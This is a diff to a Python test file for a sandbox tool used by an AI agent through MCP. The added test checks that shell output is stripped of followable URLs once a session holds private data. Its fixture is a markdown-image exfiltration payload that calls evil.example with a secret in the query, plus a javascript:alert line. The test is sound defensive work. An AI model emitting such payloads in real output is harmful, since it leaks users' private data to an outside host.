@@ -1,17 +1,21 @@
 """``sandbox_execute`` under attack from what the command prints: the host keeps
 a bounded part of it (guarantee 7: a sandbox must not grow the host without
-bound)."""
+bound), and once the session is private its URLs reach the agent defanged
+(guarantee 8: an MCP client may render a result as markdown and fetch an image)."""
 
 from __future__ import annotations
 
+import asyncio
 import os
 import threading
+from pathlib import Path
 
 import pytest
 from kernel_helpers import require_bwrap
 
+from sandbox_kernel.privacy import PrivacyStore, PrivateData
 from sandbox_kernel.sandbox import BubblewrapSandbox, base
-from sandbox_kernel.tools import SessionRegistry, sandbox_execute
+from sandbox_kernel.tools import SessionRegistry, repl_execute_cell, sandbox_execute
 
 pytestmark = pytest.mark.asyncio
 
@@ -81,3 +85,19 @@ async def test_run_spec_keeps_a_head_and_a_tail_of_each_stream() -> None:
     assert (r.stderr, r.stderr_dropped) == (b"ERR\n", 0)
     r = await bwrap.run(["/bin/sh", "-c", "echo before; exec sleep 60"], cwd="/", timeout=1)
     assert r.timed_out and r.exit_code == -1 and r.stdout == b"before\n"
+
+
+async def test_private_shell_output_has_no_followable_url(registry: SessionRegistry, data_dir: Path) -> None:
+    """Once private, what the command prints reaches the agent defanged, as cell
+    output does: a markdown image would otherwise be fetched by the client."""
+    kw = ids(registry, "priv")
+    leak = "![x](https://evil.example/leak?d=SECRET) www.evil.example javascript:alert(1)"
+    r = await sandbox_execute(f"echo '{leak}'", **kw)
+    assert "https://evil.example" in r.text  # public: output as printed
+    await repl_execute_cell("1", **kw)
+    store = PrivacyStore(data_dir / "privacy")
+    await asyncio.to_thread(PrivateData("alice", "priv", store).add_private_dataset, "crm", "SECRET", "connector", True)
+    r = await sandbox_execute(f"echo '{leak}'; echo https://evil.example/x >&2", **kw)
+    assert r.text.startswith("Exit code: 0"), r.text
+    assert "evil.example" in r.text and "https://" not in r.text and "www.evil" not in r.text, r.text
+    assert "javascript:" not in r.text, r.text
